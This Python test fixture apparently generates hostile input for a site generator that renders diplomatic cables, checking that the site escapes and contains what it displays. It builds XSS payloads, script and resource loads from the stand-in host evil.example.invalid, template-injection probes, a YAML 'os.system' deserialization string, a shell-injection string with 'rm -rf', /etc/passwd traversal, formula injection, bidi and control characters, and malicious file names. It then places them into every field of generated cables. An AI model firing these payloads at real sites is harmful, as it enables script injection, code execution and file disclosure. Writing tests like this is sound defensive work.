"""Texts that would act if they were not text, and cables that carry them in every place."""

from __future__ import annotations

from itertools import product

_HOSTS = "http://evil.example.invalid"
_RUN = "window.__pwned=1"
_HANDLERS = (
    "load error click focus blur mouseover mouseenter toggle animationstart pointerdown begin "
    "wheel input submit scroll beforeprint hashchange message resize keydown auxclick copy cut"
).split()
_ELEMENTS = ("img src=x", "svg", "body", "details open", "input autofocus", "iframe", "video src=x")
_SCHEMES = (
    "javascript:window.__pwned=1",
    "JaVaScRiPt:window.__pwned=1",
    "java\tscript:window.__pwned=1",
    "&#106;avascript:window.__pwned=1",
    "javascript&colon;window.__pwned=1",
    "vbscript:msgbox(1)",
    "data:text/html,<script>window.__pwned=1</script>",
    "data:image/svg+xml,<svg onload=alert(1)>",
    f"{_HOSTS}/x.png",
    "//evil.example.invalid/x",
    "file:///etc/passwd",
    "\\\\evil.example.invalid\\x",
)
_LINKS = ("[a]({})", "![a]({})", "<{}>", '<a href="{}">a</a>', "[a]: {}", '<iframe src="{}">')

_HTML = (
    f"<script>{_RUN}</script>",
    f"</script><script>{_RUN}</script>",
    f"<SCRIPT >{_RUN}</SCRIPT\n>",
    f"<script src={_HOSTS}/x.js></script>",
    f"<script type=module>{_RUN}</script>",
    f"<scr<script>ipt>{_RUN}</scr</script>ipt>",
    f"<noscript><p title='</noscript><script>{_RUN}//'>",
    f"</title><script>{_RUN}</script>",
    f"</textarea><script>{_RUN}</script>",
    f"</style><script>{_RUN}</script>",
    f"--><script>{_RUN}</script>",
    f"]]><script>{_RUN}</script>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={_RUN}>",
    "<plaintext>",
    "<xmp>",
    f"<svg><script>{_RUN}</script></svg>",
    f"<svg><animate onbegin={_RUN} attributeName=x dur=1s>",
    f"<svg><use href='data:image/svg+xml,<svg id=x onload={_RUN}>#x'/></svg>",
    "<!-- no comment -->",
    f"<meta http-equiv=refresh content='0;url={_HOSTS}'>",
    f"<base href='{_HOSTS}/'>",
    f"<link rel=stylesheet href={_HOSTS}/x.css>",
    f"<object data={_HOSTS}></object>",
    "<?php x ?>",
    f"<embed src={_HOSTS}>",
    f"<form action={_HOSTS}><button>x</button></form>",
    "<![CDATA[ x ]]>",
    f"<style>@import '{_HOSTS}/x.css';</style>",
    f"<p style='background:url({_HOSTS}/x)'>x</p>",
    "<style>*{display:none}</style>",
    "</p></div></section></details></article></main></body></html>",
    f"<template shadowrootmode=open><img src=x onerror={_RUN}></template>",
    "</td></tr></table>",
    f'" onmouseover="{_RUN}" x="',
    f"' onfocus='{_RUN}' autofocus x='",
    f"`onload={_RUN}`",
    f"<img src='x' srcset='{_HOSTS}/y 2x'>",
    f"<img/src=x/onerror={_RUN}>",
    f"<img src=x onerror\t={_RUN}",
    f"<a id=__md_scope name=__md_get href={_HOSTS}>x</a>",
    "<a id=config><a id=config name=base>x</a>",
    f"<div popover id=p onbeforetoggle={_RUN}>x</div>",
    f"<bdi><b><i><u>{_RUN}",
    "<br/><hr/><b>x</b>",
)
_MARKDOWN = (
    "**strong** __strong__ *em* _em_",
    "`code` ``code``",
    "~~del~~ ^^ins^^ ==mark== H~2~O X^2^",
    "# Heading",
    "## Heading {: #p-1 }",
    "Heading\n=======",
    "> quote",
    "    indented code",
    "```python",
    "~~~ {.python onclick=x}",
    "1. one",
    "- one",
    "+ one",
    "* one",
    "--- ",
    "***",
    "| a | b |\n| - | - |",
    "| c | d |",
    "[^1]: footnote",
    "x[^1]",
    "*[HTML]: an abbreviation",
    f"[ref]: {_HOSTS}",
    "[x][ref]",
    "[ ] task",
    "- [x] task",
    ":smile: :material-account:",
    "{++a++}",
    '--8<-- "secret.txt"',
    "--8<--",
    "-8<- 'x'",
    "!!! note",
    "??? note",
    "???+ note",
    "/// details",
    '=== "Tab"',
    '{: onclick="window.__pwned=1" }',
    "{: .x #y onload=x }",
    "{#p-1}",
    "{.x}",
    "<div markdown=1>",
    '<p markdown="span">*x*</p>',
    "[TOC]",
    "[[wiki]]",
    "$x$ \\(x\\) $$x$$",
    "term\n:   definition",
    "\\* \\< \\\\ \\",
    "&lt;b&gt; &amp; &#60; &#x3c; &nbsp; &copy; &bogus;",
    "<http://evil.example.invalid>",
    "http://evil.example.invalid/x www.evil.example.invalid",
    "<mailto:x%40evil>",
    "++ctrl+c++",
    "@include x",
    "\x02wzxhzdk:0\x03",
    "klzzwxh:0000",
)
_CODE = (
    "{{ 7*7 }}",
    "{{ config }}",
    "{% include 'x' %}",
    "{% raw %}",
    "{% endraw %}",
    "{# comment #}",
    "{{ ''.__class__.__mro__ }}",
    "{%- set x = 1 -%}",
    "{{ macros_info() }}",
    "${7*7}",
    "#{7*7}",
    "<%= 7*7 %>",
    "---",
    "title: x",
    "--- !!python/object:os.system",
    "template: x.html",
    "hide: [toc]",
    "%s %d %(x)s {0} {x}",
    "$(id) `id` ; rm -rf",
    "../../../etc/passwd",
    "%2e%2e%2f",
    "..\\..\\x",
    "=1+1",
    "@SUM(1)",
    "\\u003cscript\\u003e",
    "__proto__",
    "constructor",
    "\\0 \\x1b[31m \\n",
)
_SIGNS = (
    *(
        f"a{sign}b {sign}(1) c{sign}"
        for sign in "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\u200e\u200f\u061c"
        "\u200b\u200c\u200d\u2060\ufeff\u00ad\u2028\u2029\u0085\u009b\x00\x01\x07\x08\x0b\x0c\x1b\x7f"
        "\ufffd\ufffe\U000e0041\ufe0f\u3164\u0338\ufdfa\u2800"
    ),
    "\x1b[31mred\x1b[0m",
    "\x1b]0;title\x07",
    "\x1b[2J\x1b[H",
    "\u202e)sbu(\u202c txet",
    "Z\u0351\u0345a\u0336l\u0310g\u0321o",
    "\U0001f468\u200d\U0001f469",
    "مرحبا 123 שלום",
    "�\ufffd",
)

PAYLOADS: tuple[str, ...] = tuple(
    dict.fromkeys(
        [
            *_HTML,
            *_MARKDOWN,
            *_CODE,
            *_SIGNS,
            *(f"<{e} on{h}={_RUN}>" for e, h in zip(_ELEMENTS * 4, _HANDLERS, strict=False)),
            *(link.format(scheme) for link, scheme in product(_LINKS, _SCHEMES)),
        ]
    )
)
"""Each is text, and nothing else."""


def one_line(payload: str) -> str:
    """A payload for a place that is one line."""
    return payload.replace("\n", " ")


def cables(size: int = 8) -> dict[str, str]:
    """Cables by file name; each carries `size` payloads in every place where text can stand."""
    told = {}
    for number, start in enumerate(range(0, len(PAYLOADS), size), 1):
        told[f"08HOSTILE{number}.txt"] = _cable(number, start, PAYLOADS[start : start + size])
    return told


def _cable(number: int, start: int, payloads: tuple[str, ...]) -> str:
    first, second, third = (one_line(payloads[i % len(payloads)]) for i in (0, 1, 2))
    lines = [
        "R 112219Z MAR 08",
        f"FM AMEMBASSY HOSTILE {first}",
        f"TO RUEHC/SECSTATE WASHDC {second}",
        f"INFO RUEHXC/{third}",
        f"UNCLAS HOSTILE {number:06d}",
        "",
        f"STATE FOR {first}",
        f"E.O. 12958: N/A {second}",
        f"TAGS: PREL, {first}",
        f"SUBJECT: Subject {first} {second} {third}",
        "",
        f"REF: A. 08 HOSTILE {number + 1} {first}",
        f"     B. PARIS 12 ({second})",
        "",
        f"HEADING {first}",
        "-----------------------",
        "",
    ]
    for index, payload in enumerate(payloads, 1):
        told = one_line(payload)
        lines += [
            f"¶{index}. (SBU) Para {told} of RO{start + index}Q (end)",
            "",
            f"-- {told}",
            f"-- item {told}",
            "",
            f"(1) {told}",
            "",
            payload,
            "",
            f"On March {index}, 2007, the {told} began its work.",
            "",
            f"The Rain Office {told} (RO{index}X) met; RO{index}X ({told}) left. See para {index}.",
            "",
        ]
    index = len(payloads) + 1
    lines += [
        f"¶{index}. (SBU) QUESTION A: Is {first} a {second}?",
        "",
        f"POST RESPONSE: {third} is.",
        "",
        f"{first}",
        "----------",
        "",
        f"¶{index + 1}. (SBU) COMMENT: {second}",
        "",
        f"  Name      Place     {third}",
        "  ----      -----     -----",
        f"  {first}      x     y",
        "",
        "EXAMPLE",
        "",
        f"Visit {first} Classified Web Site: {second}",
    ]
    return "\n".join(lines) + "\n"


def glossary() -> str:
    """A curated glossary in which payloads are abbreviations and meanings."""
    told = ["terms:"]
    for number, payload in enumerate(PAYLOADS, 1):
        if one_line(payload).isprintable():
            quoted = one_line(payload).replace("'", "''")
            told += [
                f"  - short: RO{number}Q",
                f"    meaning: 'Meaning {quoted}'",
                f"    original: 'Original {quoted}'",
                "    language: es",
                "    category: organisation",
                f"    source: 'Source {quoted}'",
            ]
    return "\n".join(told) + "\n"


BAD_NAMES = (
    "..%2f..%2fescape.txt",
    "%2e%2e.txt",
    "CON.txt",
    "NUL.txt",
    "COM1.txt",
    "08CON1.txt",
    "aux.md",
    "<img src=x onerror=alert(1)>.txt",
    "a'b\"c.txt",
    "{{ 7*7 }}.txt",
    "\u202etxt.cable",
    "\x1b[31m.txt",
    "08" + "A" * 240 + "1.txt",
    "08hostile9001.cable",
    "08HOSTILE09001.md",
    "index.md",
    "-rf.txt",
    "a b.txt",
)
"""Names of files: none may become a way out of the site or an address that another has."""
